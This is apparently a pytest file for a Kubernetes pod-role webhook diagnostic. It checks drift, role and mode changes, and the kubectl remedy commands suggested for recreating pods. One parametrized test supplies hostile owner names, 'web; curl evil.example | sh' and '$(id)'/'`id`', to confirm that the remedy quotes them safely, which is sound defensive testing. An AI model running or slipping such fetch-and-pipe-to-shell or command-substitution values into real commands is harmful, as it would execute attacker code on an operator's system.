"""What the webhook would do with a running pod now, and how the pod differs from that."""

import pytest

from testing.cases import add_api_defaults, build_case, find_container
from tests.unit.podrole.diagnosis.states import (
    READER,
    SAFE,
    SERVING,
    annotate,
    build_deployment,
    build_namespace,
    build_plain_pod,
    build_pod_state,
    build_running_pod,
    diagnose_running_pod,
    find_texts,
    list_concerns,
)


def test_pod_that_is_up_to_date_has_no_concern() -> None:
    findings = diagnose_running_pod(build_running_pod())

    assert list_concerns(findings) == []
    assert find_texts(findings, "UpToDate") == ["The pod is up to date."]
    assert find_texts(findings, "Serving") == [f"The sidecar serves credentials of {READER}; they expire in 50 min."]


def test_pod_that_would_be_denied_is_a_problem_with_the_reason_code() -> None:
    findings = diagnose_running_pod(annotate(build_running_pod(), "podrole.io/session-duration", "5"))

    (text,) = find_texts(findings, "WouldDeny")
    assert "[InvalidValue]" in text
    assert "NoLongerInjected" in list_concerns(findings)


@pytest.mark.parametrize(
    ("annotations", "environ"),
    [
        pytest.param({"eks.amazonaws.com/audience": "amazonaws.com"}, {}, id="service-account"),
        pytest.param({}, {"PODROLE_AUDIENCE": "amazonaws.com"}, id="operator"),
    ],
)
def test_changed_audience_is_reported(annotations: dict[str, str], environ: dict[str, str]) -> None:
    state = build_pod_state(
        service_account={"metadata": {"name": "default", "annotations": annotations}}, sidecar_status=SERVING
    )

    findings = diagnose_running_pod(build_running_pod(), state, environ=environ)

    (text,) = [one for one in find_texts(findings, "Drifted") if "podrole-token" in one]
    assert text.endswith("is different: the audience is sts.amazonaws.com and would be amazonaws.com.")


def test_changed_role_is_reported_with_the_command_that_recreates_the_pod() -> None:
    findings = diagnose_running_pod(annotate(build_running_pod(), "iam.amazonaws.com/role", "writer"))

    (finding,) = [finding for finding in findings if finding.code == "RoleChanged"]
    assert finding.text.startswith(
        f"The pod has the role {READER}. A new pod would have the role arn:aws:iam::111122223333:role/writer"
    )
    assert finding.remedy == "kubectl -n team-a rollout restart deployment/web"
    assert find_texts(findings, "Drifted") == []


def test_changed_mode_is_reported() -> None:
    namespace = build_namespace(
        **{"podrole.io/injection": "enabled", "pod-security.kubernetes.io/enforce": "restricted"}
    )

    findings = diagnose_running_pod(build_running_pod(), build_pod_state(namespace=namespace, sidecar_status=SERVING))

    assert find_texts(findings, "ModeChanged") == ["The pod is in redirect mode. A new pod would be in env mode."]


def test_access_key_that_shadows_the_role_is_a_concern() -> None:
    app = {"name": "app", "image": "a:1", "env": [{"name": "AWS_ACCESS_KEY_ID", "value": "AKIA"}]}

    findings = diagnose_running_pod(build_running_pod(containers=[app]))

    assert list_concerns(findings) == ["InjectionWarning"]


@pytest.mark.parametrize(
    ("passthrough", "security", "concerns"),
    [
        pytest.param("true", {}, ["NodeAccessAllowed"], id="any-user"),
        pytest.param("true", {"runAsUser": 1000, "allowPrivilegeEscalation": False}, [], id="a-user-of-its-own"),
        pytest.param("false", {}, [], id="no-way-to-the-node"),
    ],
)
def test_container_that_only_the_operators_setting_allows_is_named(
    passthrough: str, security: dict[str, object], concerns: list[str]
) -> None:
    settings = {"PODROLE_ALLOW_OVERRIDES": "metadata-passthrough", "PODROLE_NODE_ACCESS_REQUIRES_USERS": "false"}
    state = build_pod_state(sidecar_status=SERVING, deployment=build_deployment(SAFE | settings))
    app = {"name": "app", "image": "a:1", "securityContext": security}
    pod = annotate(build_running_pod(containers=[app]), "podrole.io/metadata-passthrough", passthrough)

    findings = diagnose_running_pod(pod, state)

    assert [one for one in list_concerns(findings) if one == "NodeAccessAllowed"] == concerns
    assert all(text.startswith('Container "app" could') for text in find_texts(findings, "NodeAccessAllowed"))


def test_pod_injected_without_label_is_compared_with_an_injection_with_it() -> None:
    state = build_pod_state(
        namespace=build_namespace(team="a"),
        sidecar_status=SERVING,
        deployment=build_deployment(SAFE | {"PODROLE_SIDECAR_IMAGE": "example/podrole-sidecar:1"}),
    )

    findings = diagnose_running_pod(build_running_pod(), state)

    assert list_concerns(findings) == []
    assert find_texts(findings, "InjectedWithoutLabel")
    assert find_texts(findings, "UpToDate")


@pytest.mark.parametrize("name", ["namespace", "service_account", "version"])
def test_unreadable_context_leaves_the_expected_state_unknown(name: str) -> None:
    findings = diagnose_running_pod(build_running_pod(), build_pod_state({name: f"you may not read the {name}"}))

    assert find_texts(findings, "ContextReadFailed") == [
        f"Cannot determine what the webhook would do now: you may not read the {name}."
    ]
    assert find_texts(findings, "WouldInject") == []


def test_missing_configuration_is_reported_with_the_missing_settings() -> None:
    findings = diagnose_running_pod(build_running_pod(), build_pod_state(deployment=None))

    (text,) = find_texts(findings, "SettingsUnknown")
    assert "Deployment podrole-system/podrole-injector with the webhook's configuration does not exist" in text
    assert "PODROLE_SIDECAR_IMAGE is not set" in text


def test_variables_of_the_caller_override_the_deployed_configuration() -> None:
    findings = diagnose_running_pod(build_running_pod(), environ={"PODROLE_ACCOUNT_ID": "999999999999", "PATH": "/bin"})

    assert "arn:aws:iam::999999999999:role/reader" in find_texts(findings, "RoleChanged")[0]


@pytest.mark.parametrize(
    ("owner", "labels", "command"),
    [
        pytest.param({"kind": "DaemonSet", "name": "agent"}, {}, "rollout restart daemonset/agent", id="daemonset"),
        pytest.param({"kind": "StatefulSet", "name": "db"}, {}, "rollout restart statefulset/db", id="statefulset"),
        pytest.param(
            {"kind": "ReplicaSet", "name": "bare"},
            {},
            "delete pod web-7d4b9-x2x1k   # its ReplicaSet bare",
            id="replicaset-without-deployment",
        ),
        pytest.param(
            {"apiVersion": "apps.kruise.io/v1beta1", "kind": "StatefulSet", "name": "db"},
            {},
            "delete pod web-7d4b9-x2x1k   # its StatefulSet db",
            id="statefulset-of-another-group",
        ),
        pytest.param({"kind": "Job", "name": "once"}, {}, "delete pod web-7d4b9-x2x1k   # its Job once", id="job"),
        pytest.param(
            {"kind": "Deployment", "name": "web; curl evil.example | sh"},
            {},
            "rollout restart 'deployment/web; curl evil.example | sh'",
            id="owner-whose-name-is-a-shell-command",
        ),
        pytest.param(
            {"kind": "$(id)", "name": "`id`"},
            {},
            "delete pod web-7d4b9-x2x1k   # its '$(id)' '`id`'",
            id="owner-whose-kind-is-a-shell-command",
        ),
    ],
)
def test_command_that_recreates_a_pod_depends_on_its_owner(
    owner: dict[str, str], labels: dict[str, str], command: str
) -> None:
    pod = annotate(build_running_pod(), "iam.amazonaws.com/role", "writer")
    pod["metadata"] |= {"ownerReferences": [{**owner, "controller": True}], "labels": labels}

    findings = diagnose_running_pod(pod)

    (finding,) = [finding for finding in findings if finding.code == "RoleChanged"]
    assert command in finding.remedy


def test_blocked_pod_without_a_role_has_no_concern() -> None:
    case = build_case()
    del case.pod["metadata"]["annotations"]
    pod = add_api_defaults(case.inject())

    findings = diagnose_running_pod(pod)

    assert list_concerns(findings) == []
    assert find_texts(findings, "Blocked")
    assert find_texts(findings, "WouldBlock")[0].startswith(
        "The webhook would block the pod. No role is configured for this pod"
    )


def test_changed_container_is_reported_with_the_expected_value() -> None:
    pod = build_running_pod()
    find_container(pod, "podrole-redirect")["command"] = ["true"]

    findings = diagnose_running_pod(pod)

    assert list_concerns(findings) == ["Drifted"]
    (text,) = find_texts(findings, "Drifted")
    assert text.startswith('The pod differs from a new pod: container podrole-redirect: command is ["true"]')


def test_unreadable_settings_and_template_are_reported() -> None:
    deployment = build_deployment({**SAFE, "PODROLE_TEMPLATE": "/etc/podrole/t.yaml"})
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    container["envFrom"] = [{"secretRef": {"name": "more"}}]

    findings = diagnose_running_pod(build_running_pod(), build_pod_state(deployment=deployment, sidecar_status=SERVING))

    assert find_texts(findings, "SettingsNotRead")[0].endswith("could not be read: Secret more.")
    assert "/etc/podrole/t.yaml" in find_texts(findings, "TemplateNotRead")[0]


def test_role_on_the_deployment_itself_is_named_with_its_right_place() -> None:
    pod = build_plain_pod()
    pod["metadata"] |= {
        "annotations": {},
        "labels": {"pod-template-hash": "7d4b9"},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-7d4b9", "controller": True}],
    }
    owner = {"metadata": {"annotations": {"iam.amazonaws.com/role": "reader"}}}

    findings = diagnose_running_pod(pod, build_pod_state(owner=owner))

    place = "Set the annotation iam.amazonaws.com/role in its pod template (spec.template.metadata)."
    text = f"Annotation iam.amazonaws.com/role of the Deployment has no effect. {place}"
    assert text in find_texts(findings, "InjectionWarning")


def test_misspelt_annotation_of_the_account_is_reported() -> None:
    pod = build_plain_pod()
    pod["metadata"]["annotations"] = {}
    account = {"metadata": {"name": "default", "annotations": {"eks.amazon.com/role-arn": READER}}}

    findings = diagnose_running_pod(pod, build_pod_state(service_account=account))

    (text,) = find_texts(findings, "InjectionWarning")
    assert text.endswith("Did you mean eks.amazonaws.com/role-arn?")
